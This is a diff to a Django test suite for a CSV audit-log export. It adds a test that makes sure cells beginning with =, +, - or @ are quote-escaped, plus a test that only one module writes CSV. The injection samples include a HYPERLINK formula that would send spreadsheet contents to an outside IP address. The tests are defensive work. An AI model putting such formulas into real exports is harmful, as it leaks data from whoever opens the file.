@@ -1,9 +1,13 @@
 import csv
 import io
+from dataclasses import replace
 from datetime import timedelta
 
 import pytest
+from django.conf import settings
+from django.db import transaction
 
+from applications import audit as audit_trail
 from applications import environments
 from applications.models import AuditEvent
 from console.audit import views as audit
@@ -141,6 +145,28 @@ class TestAuditExport:
         assert row["at"] == NOON.isoformat()
         assert '"reason": "spam"' in row["after"]
         assert "attachment" in response["Content-Disposition"]
+
+    def test_has_no_cell_that_a_spreadsheet_would_run(self, client, environment):
+        formula = '=HYPERLINK("http://192.0.2.66/?"&A1,"x")'
+        by = replace(staff_actor("@SUM(A1)"), via=formula, request_id="\t=1")
+        for user_id in ("=1+2", "+cmd", "-2", "mia"):
+            with transaction.atomic():
+                audit_trail.record(
+                    "ban.lifted", environment=environment, subject=user_id, by=by, now=NOON
+                )
+        response = client.get(address("audit:export", environment))
+        rows = {row["subject"]: row for row in csv.DictReader(io.StringIO(response.text))}
+        assert rows.keys() == {"'=1+2", "'+cmd", "'-2", "mia"}
+        mia = rows["mia"]
+        assert (mia["via"], mia["request_id"]) == (f"'{formula}", "'\t=1")
+        assert {row["actor"] for row in rows.values()} == {"'@SUM(A1)"}
+
+    def test_is_the_only_way_to_write_csv(self):
+        """So that no further export forgets it."""
+        storeys = ("applications", "users", "moderation", "api", "gateway", "console", "rollcall")
+        sources = [path for each in storeys for path in (settings.BASE_DIR / each).rglob("*.py")]
+        writers = [path.name for path in sources if "csv" in path.read_text().split()]
+        assert writers == ["exports.py"]
 
     def test_ends_at_its_bound(self, client, environment, monkeypatch):
         monkeypatch.setattr(audit, "EXPORT_AT_MOST", 2)
